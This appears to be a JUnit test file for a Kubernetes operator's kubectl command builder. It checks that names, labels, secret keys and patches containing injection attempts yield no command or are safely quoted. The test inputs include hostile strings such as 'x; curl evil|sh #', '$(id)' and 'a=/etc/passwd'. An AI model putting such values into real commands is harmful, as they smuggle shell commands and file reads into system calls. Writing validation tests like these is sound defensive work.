package dev.monitored.operator.finding;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import dev.monitored.operator.finding.Kubectl.Subject;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class KubectlTest {
  private static final Subject SHOP = new Subject("monitored", "team-a", "shop");

  @ParameterizedTest
  @ValueSource(strings = {"", "-n", "--kubeconfig=/tmp/x", "a b", "x; curl evil|sh #", "A", "a'b"})
  void thereIsNoCommandForWhatIsNoName(String name) {
    var labels = Map.of("a", "b");

    assertThat(Kubectl.addLabels(new Subject("namespace", null, name), labels)).isEmpty();
    assertThat(Kubectl.addLabels(new Subject("monitored", name, "shop"), labels)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "--all", "a b", "-a", "a/b/c", "a;b", "a=b"})
  void thereIsNoCommandForWhatIsNoLabel(String key) {
    assertThat(Kubectl.addLabels(SHOP, Map.of(key, "b"))).isEmpty();
    assertThat(Kubectl.setLabels(SHOP, Map.of(key, "b"))).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"a b", "-", "$(id)", "a;b", "'"})
  void thereIsNoCommandForWhatIsNoValueOfALabel(String value) {
    assertThat(Kubectl.setLabels(SHOP, Map.of("key", value))).isEmpty();
  }

  @Test
  void aSecretIsCreatedFromFilesWithTheNamesOfItsKeys() {
    assertThat(
            Kubectl.createSecret("team-a", "login", List.of("username", "tls.key")).orElseThrow())
        .hasToString(
            "kubectl create secret generic login --namespace team-a --from-file=username"
                + " --from-file=tls.key");
    assertThat(Kubectl.createConfigMap("team-a", "ca", List.of("ca.crt")).orElseThrow())
        .hasToString("kubectl create configmap ca --namespace team-a --from-file=ca.crt");
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "a=/etc/passwd", "../a", "a b", "$(id)"})
  void thereIsNoCommandForWhatIsNoKey(String key) {
    assertThat(Kubectl.createSecret("team-a", "login", List.of("username", key))).isEmpty();
  }

  @Test
  void whatIsInAPatchStaysInIt() {
    var operations = JsonNodeFactory.instance.arrayNode().add("it's \u202e\n");

    assertThat(Kubectl.patch(SHOP, operations).orElseThrow())
        .hasToString(
            "kubectl patch monitored shop --namespace team-a --type json --patch"
                + " '[\"it'\\''s \\u202E\\n\"]'");
  }
}
